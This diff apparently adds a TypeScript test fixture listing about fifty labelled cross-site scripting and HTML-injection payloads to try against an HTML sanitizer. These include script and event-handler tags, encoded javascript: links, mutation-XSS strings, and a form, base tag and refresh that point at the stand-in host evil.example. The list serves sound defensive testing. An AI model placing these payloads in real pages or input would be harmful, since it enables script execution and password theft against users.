@@ -1,0 +1,83 @@
+/**
+ * Formatted text as an attacker would write it: what cleans it, on the server and in the page, is tried with each.
+ * Whatever comes out has no tag and no attribute beside those of the list.
+ */
+export const attacks: readonly (readonly [what: string, html: string])[] = [
+  ['a script', '<p>a</p><script>alert(1)</script>'],
+  ['a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
+  ['a script never closed', '<script>alert(1)'],
+  ['a script inside a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['a picture that fails', '<img src=x onerror=alert(1)>'],
+  ['a picture with slashes', '<img/src="x"/onerror=alert(1)>'],
+  ['a picture from elsewhere', '<img src="https://evil.example/pixel.gif">'],
+  [
+    'many pictures from elsewhere',
+    '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
+  ],
+  ['a picture of nobody', '<img data-file="00000000-0000-4000-8000-000000000000" src="x">'],
+  ['a file number that is none', '<img data-file="x&quot; onerror=&quot;alert(1)">'],
+  ['a handler', '<p onclick="alert(1)" onmouseover=alert(1)>a</p>'],
+  ['a javascript link', '<a href="javascript:alert(1)">a</a>'],
+  ['a javascript link in capitals', '<a href="JaVaScRiPt:alert(1)">a</a>'],
+  ['a javascript link with a tab', '<a href="java\tscript:alert(1)">a</a>'],
+  ['a javascript link with a line end', '<a href="java&#10;script:alert(1)">a</a>'],
+  [
+    'a javascript link in numbers',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
+  ],
+  ['a javascript link behind a control character', '<a href="\u0001javascript:alert(1)">a</a>'],
+  ['a vbscript link', '<a href="vbscript:msgbox(1)">a</a>'],
+  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
+  ['a link without a scheme', '<a href="//evil.example">a</a>'],
+  ['a link with backslashes', '<a href="\\\\evil.example">a</a>'],
+  ['a link within the product', '<a href="/api/download">a</a>'],
+  [
+    'a link that opens another window by name',
+    '<a href="https://example.jp" target="top" rel="opener" ping="https://evil.example">a</a>',
+  ],
+  ['a style', '<p style="background:url(https://evil.example/x)">a</p>'],
+  ['a style sheet', '<style>@import "https://evil.example/x.css";</style><p class="modal">a</p>'],
+  ['a drawing', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
+  ['a drawing with a link', '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>'],
+  [
+    'a drawing with an animation',
+    '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>a</text></a></svg>',
+  ],
+  ['a template', '<template><img src=x onerror=alert(1)></template>'],
+  [
+    'a template with a shadow',
+    '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
+  ],
+  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['an object', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
+  [
+    'a form',
+    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">a</button></form>',
+  ],
+  ['a base', '<base href="https://evil.example/">'],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['names of the page', '<a id="location" name="cookie">a</a><form name="body"></form>'],
+  ['a comment', '<!--[if IE]><script>alert(1)</script><![endif]--><p>a</p>'],
+  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
+  ['cdata', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
+  // What a parser makes of text that another one has written again ("mutation").
+  ['a mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+  [
+    'a mutation by math',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  ],
+  ['a mutation by svg', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
+  ['a mutation by form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
+  ['a mutation by xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
+  ['a mutation by title', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>'],
+  ['a mutation by textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
+  [
+    'a mutation by select',
+    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
+  ],
+  ['an attribute in back quotes', '<img src=`x`onerror=alert(1)>'],
+  ['escaped tags stay words', '&lt;img src=x onerror=alert(1)&gt;'],
+  ['tags escaped twice stay words', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
+  ['an endless tag', '<p '.repeat(2000)],
+  ['deep nesting', '<blockquote>'.repeat(1000)],
+]
